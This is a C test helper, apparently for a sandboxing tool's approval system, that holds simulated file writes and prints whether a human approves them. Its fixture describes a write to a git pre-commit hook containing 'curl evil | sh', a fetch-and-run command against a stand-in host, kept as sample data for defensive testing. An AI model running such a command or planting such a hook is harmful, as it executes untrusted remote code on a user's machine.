/*
 * hold_server: a stand-in daemon for the CLI's approval tests.  It serves
 * DIR/fs.sock with the real approvals and ctl code, holds COUNT identical
 * actions one after another, and prints each one's fate:
 *
 *   held f1
 *   resolved f1 approved human <reason>
 *
 * (a remembered answer prints "resolved - approved human remembered").
 * HOLD_TARGET in the environment replaces the held path.
 * It exits 0 after the last one.  Test-only; never installed.
 */
#include "config.h"

#include <errno.h>
#include <pthread.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include "approval.h"
#include "ctl.h"
#include "util.h"

struct hold_wait {
	pthread_mutex_t lock; /* guards is_done and res */
	pthread_cond_t cond;
	int is_done;
	struct approval_result res;
};

static void
hold_cb(const char *id, const struct approval_result *res, void *arg)
{
	struct hold_wait *w = arg;

	pthread_mutex_lock(&w->lock);
	w->res = *res;
	w->is_done = 1;
	pthread_cond_signal(&w->cond);
	pthread_mutex_unlock(&w->lock);
}

static void
hold_print(const char *id, const struct approval_result *res)
{
	printf("resolved %s %s %s %s\n", id[0] != '\0' ? id : "-",
	    audit_outcome_name(res->outcome),
	    audit_decider_name(res->decided_by), res->reason);
	fflush(stdout);
}

int
main(int argc, char **argv)
{
	struct approvals *ap;
	struct ctl_server *srv;
	struct approval_result res;
	struct hold_wait w;
	struct caller c;
	struct held_info info = {
		.kind = "fs",
		.op = "write",
		.target = ".git/hooks/pre-commit",
		.rule = "airlock.yaml:3",
		.reason = "hooks run code outside the room",
		.detail = "+#!/bin/sh\n+curl evil | sh\n",
	};
	char path[4096], id[24];
	uid_t refuse = (uid_t)-1;
	long count, i;
	int rc;

	if (argc < 4 || argc > 5) {
		fprintf(stderr,
		    "usage: hold_server DIR TIMEOUT_MS COUNT"
		    " [REFUSE_UID]\n");
		return 2;
	}
	count = strtol(argv[3], NULL, 10);
	if (argc == 5)
		refuse = (uid_t)strtoul(argv[4], NULL, 10);
	snprintf(path, sizeof(path), "%s/fs.sock", argv[1]);

	memset(&c, 0, sizeof(c));
	c.pid = getpid();
	c.uid = getuid();
	str_copy(c.exe, "/usr/bin/git", sizeof(c.exe));
	str_copy(c.cmdline, "git commit -m wip", sizeof(c.cmdline));
	str_copy(c.intent,
	    getenv("AIRLOCK_INTENT") != NULL ? getenv("AIRLOCK_INTENT") : "",
	    sizeof(c.intent));
	info.caller = &c;
	/* HOLD_TARGET: what is held, when a test wants another path. */
	if (getenv("HOLD_TARGET") != NULL)
		info.target = getenv("HOLD_TARGET");

	if ((ap = approvals_new("f", (unsigned)strtoul(argv[2], NULL, 10))) ==
	    NULL) {
		perror("approvals_new");
		return 2;
	}
	if ((srv = ctl_server_start(path, ap, refuse)) == NULL) {
		fprintf(stderr, "hold_server: %s: %s\n", path, strerror(errno));
		approvals_free(ap);
		return 2;
	}
	for (i = 0; i < count; i++) {
		memset(&w, 0, sizeof(w));
		pthread_mutex_init(&w.lock, NULL);
		pthread_cond_init(&w.cond, NULL);
		rc = approvals_submit(
		    ap, &info, hold_cb, &w, id, sizeof(id), &res);
		if (rc < 0) {
			perror("approvals_submit");
			return 2;
		}
		if (rc == 1) {
			hold_print("", &res);
		} else {
			printf("held %s\n", id);
			fflush(stdout);
			pthread_mutex_lock(&w.lock);
			while (!w.is_done)
				pthread_cond_wait(&w.cond, &w.lock);
			pthread_mutex_unlock(&w.lock);
			hold_print(id, &w.res);
		}
		pthread_cond_destroy(&w.cond);
		pthread_mutex_destroy(&w.lock);
	}
	ctl_server_stop(srv);
	approvals_free(ap);
	return 0;
}
